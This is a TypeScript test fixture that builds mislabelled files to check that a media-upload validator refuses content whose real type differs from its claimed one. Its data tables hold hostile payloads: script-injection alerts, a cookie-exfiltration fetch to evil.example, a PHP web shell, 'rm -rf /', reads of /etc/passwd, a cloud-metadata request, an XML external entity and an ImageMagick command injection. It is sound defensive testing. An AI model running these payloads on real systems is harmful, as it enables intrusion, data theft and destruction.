/** Files of one type that are said to be of another. */
import { gzipSync } from "node:zlib";
import { mediaTypes } from "@pipit/protocol/media-types";
import type { BadBytes } from "../bad-files.fixture.ts";
import { ebmlHeader, element } from "./build-sound.fixture.ts";
import { makeZip } from "./build-zip.fixture.ts";

const bytes = (hex: string, rest = "", length = 512) =>
  Buffer.concat([Buffer.from(hex, "hex"), Buffer.from(rest, "latin1"), Buffer.alloc(length)]);

/** What is text: it may be sent as text, where it does no harm. */
const texts: Record<string, string> = {
  html: "<!doctype html><script>alert(1)</script>",
  "html behind spaces": `${" ".repeat(2_000)}<html><body onload=alert(1)>`,
  svg: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  javascript: "fetch('//evil.example/'+document.cookie)//",
  php: "<?php system($_GET['c']); ?>",
  shell: "#!/bin/sh\nrm -rf /\n",
  "hls playlist": "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
  "hls of an address": "#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/\n",
  ffconcat: "ffconcat version 1.0\nfile /etc/passwd\nduration 1\n",
  sdp: "v=0\no=- 0 0 IN IP4 127.0.0.1\nm=audio 5004 RTP/AVP 96\n",
  "dash manifest": "<MPD><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>",
  subtitles: "1\n00:00:00,000 --> 00:00:01,000\n<script>alert(1)</script>\n",
  "imagemagick script": "push graphic-context\nfill 'url(https://example.com/\"|ls \"-la)'\npop graphic-context\n",
  "windows shortcut": "[InternetShortcut]\nURL=file:///c:/windows/system32/cmd.exe\n",
};

/** What is text, and a type of its own that programs act on: it is refused as text too. */
const actedOn: Record<string, string> = {
  "xml with an entity": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  "svg with a header": '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  postscript: "%!PS-Adobe-3.0\n(%pipe%id) (r) file\n",
  rtf: String.raw`{\rtf1{\object\objdata 0105000002000000}}`,
  registry: "REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n",
  calendar: "BEGIN:VCALENDAR\nATTACH:file:///etc/passwd\nEND:VCALENDAR\n",
};

const binaries: Record<string, Buffer> = {
  "windows program": bytes("4d5a9000030000000400"),
  "linux program": bytes("7f454c46020101000000"),
  "macintosh program": bytes("cffaedfe0700000103"),
  "java class": bytes("cafebabe00000034"),
  webassembly: bytes("0061736d01000000"),
  flash: bytes("435753", "\x0a"),
  "flash video": bytes("464c5601", "\x05\0\0\0\x09"),
  zip: makeZip([{ name: "evil.sh", content: "rm -rf /" }]),
  "empty zip": makeZip([]),
  jar: makeZip([{ name: "META-INF/MANIFEST.MF", content: "Main-Class: Evil" }]),
  apk: makeZip([{ name: "classes.dex", content: "dex" }]),
  gzip: gzipSync("hello"),
  "7z": bytes("377abcaf271c"),
  rar: bytes("526172211a0700"),
  tar: Buffer.concat([Buffer.alloc(257, "a"), Buffer.from("ustar\x0000", "latin1"), Buffer.alloc(248)]),
  bmp: bytes("424d36000000000000003600000028000000"),
  tiff: bytes("49492a0008000000"),
  photoshop: bytes("38425053", "\0\x01"),
  icon: bytes("00000100010010100000"),
  font: bytes("0001000000", "\x0f"),
  sqlite: bytes("", "SQLite format 3\0"),
  matroska: Buffer.concat([ebmlHeader.subarray(0, 5), Buffer.alloc(0), element(0x4282, Buffer.from("matroska"))]),
  "windows link": bytes("4c0000000114020000000000c000000000000046"),
  cabinet: bytes("4d534346"),
  noise: Buffer.from(Array.from({ length: 4_096 }, (_, at) => (at * 7919 + (at >> 3) * 31) % 251)),
  zeros: Buffer.alloc(4_096),
  "one byte": Buffer.from([0]),
  "two bytes": Buffer.from([0xff, 0xd8]),
  nothing: Buffer.alloc(0),
};

const claims = Object.keys(mediaTypes);
const binaryClaims = claims.filter((claim) => !claim.startsWith("text/"));

/** Each lie is told of several types, so that each type is lied of in many ways. */
export function* badClaims(): Generator<BadBytes> {
  yield* tell(Object.entries(texts).map(toBytes), binaryClaims, 7);
  yield* tell(Object.entries(actedOn).map(toBytes), claims, 9);
  yield* tell(Object.entries(binaries), claims, 6);
  for (const [name, text] of Object.entries(actedOn)) {
    yield { name: `${name} as text`, claimed: "text/plain", expected: "refused", bytes: Buffer.from(text) };
  }
  for (const claimed of claims) {
    yield { name: "nothing at all", claimed, expected: "refused", bytes: Buffer.alloc(0) };
  }
}

function toBytes([name, text]: [string, string]): [string, Buffer] {
  return [name, Buffer.from(text)];
}

function* tell(lies: [string, Buffer][], ofTypes: string[], each: number): Generator<BadBytes> {
  let turn = 0;
  for (const [name, lie] of lies) {
    for (let time = 0; time < each; time += 1, turn += 1) {
      const claimed = ofTypes[turn % ofTypes.length] ?? "";
      const isText = claimed.startsWith("text/");
      // Texts that programs act on look like any other when the type is not told at their beginning.
      yield { name: `${name} as ${claimed}`, claimed, expected: isText ? "either" : "refused", bytes: lie };
    }
  }
}
